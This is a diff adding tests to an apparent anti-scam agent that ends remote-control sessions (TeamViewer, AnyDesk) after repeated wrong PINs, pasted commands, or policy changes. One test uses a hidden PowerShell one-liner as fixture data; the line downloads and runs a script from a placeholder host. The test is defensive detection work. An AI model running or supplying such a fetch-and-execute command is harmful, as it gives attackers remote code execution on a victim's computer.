@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import type { DevicePolicy } from '@porchlight/contract/agent.ts';
 import { hour, minute } from '@porchlight/contract/time.ts';
+import { noUnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
 import { expect, it } from 'vitest';
 import { agentForTest, ended, linked, type TestAgent } from '../testing/agent.ts';
 import { advanceTime, browserOf } from '../testing/browser.ts';
@@ -128,6 +129,52 @@ it('[P15.1] I need help now ends it', async () => {
   await ended(test, helper);
   await until('the end', () => endOf(server, uuid).length > 0);
   expect(endOf(server, uuid)).toEqual(['danger']);
+});
+
+it('[P15.1] five wrong PINs end it; four do not', async () => {
+  const { server, test, uuid } = await helped();
+  const helper = test.os.start(teamviewer);
+  const browser = await browserOf(test);
+  const guess = () => browser.press('pause', { minutes: '10', pin: '000000', understood: 'yes' });
+  for (let tries = 1; tries < 5; tries++) await guess();
+  expect(runs(test, helper)).toBe(true);
+  await guess();
+  await ended(test, helper);
+  await until('the end', () => endOf(server, uuid).length > 0);
+  expect(endOf(server, uuid)).toEqual(['danger']);
+});
+
+it('[P15.1] a pasted command ends it, and a remote-control service that the system starts does not', async () => {
+  const { server, test, uuid } = await helped();
+  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block' } });
+  await inForce(server);
+  const helper = test.os.start(teamviewer);
+  test.os.startedByPath.set('/opt/anydesk', 'service_manager');
+  test.os.filesChanged.set('/opt/anydesk', test.clock.now.getTime() - hour);
+  await ended(test, test.os.start({ name: 'anydesk', path: '/opt/anydesk' }));
+  await until('the report', () => server.detections.size === 1);
+  expect([runs(test, helper), endOf(server, uuid)]).toEqual([true, []]);
+  const line = 'powershell -w hidden -c "iwr https://fixes.example/a.ps1 | iex"';
+  test.os.start({
+    ...{ name: 'powershell.exe', path: 'C:\\Windows\\powershell.exe', program: { os: 'windows', name: 'powershell.exe' } },
+    command: { line, args: [], parents: ['explorer.exe'], pipeline: [] },
+  });
+  await ended(test, helper);
+  await until('the end', () => endOf(server, uuid).length > 0);
+  expect(endOf(server, uuid)).toEqual(['danger']);
+});
+
+it('[P15.1] a newer policy that states a shorter time shortens it, and no longer one', async () => {
+  const { server, test, uuid } = await helped();
+  const helper = test.os.start(teamviewer);
+  for (const length of [10 * minute, 2 * hour]) {
+    server.setPolicy(appointmentFor(length, { uuid }));
+    await inForce(server);
+  }
+  advanceTime(test, 9 * minute);
+  expect(runs(test, helper)).toBe(true);
+  advanceTime(test, minute);
+  await ended(test, helper);
 });
 
 it('[P15.1] neither a clock that is set back nor a restart makes it longer, and a killed agent’s successor ends the program calmly', async () => {
